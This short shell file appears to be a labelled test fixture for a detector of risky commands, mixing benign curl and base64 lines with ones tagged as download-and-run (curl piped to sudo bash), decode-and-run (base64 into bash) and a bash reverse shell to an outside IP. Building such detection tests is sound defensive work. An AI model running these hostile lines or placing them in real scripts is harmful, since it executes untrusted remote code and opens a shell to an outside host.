#!/bin/sh
# expect: download-and-run
curl -fsSL https://get.corp.dev/install.sh | sudo bash
# expect: download-and-run
bash -c "$(curl -fsSL https://get.corp.dev/install.sh)"
curl -fsSL https://get.corp.dev/data.json | jq .
curl -fsSLo tool.tgz https://get.corp.dev/tool.tgz
# expect: decode-and-run
echo "ZWNobyBoaQo=" | base64 -d | bash
echo "ZWNobyBoaQo=" | base64 -d > text
# expect: reverse-shell
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
echo "done" > /dev/null
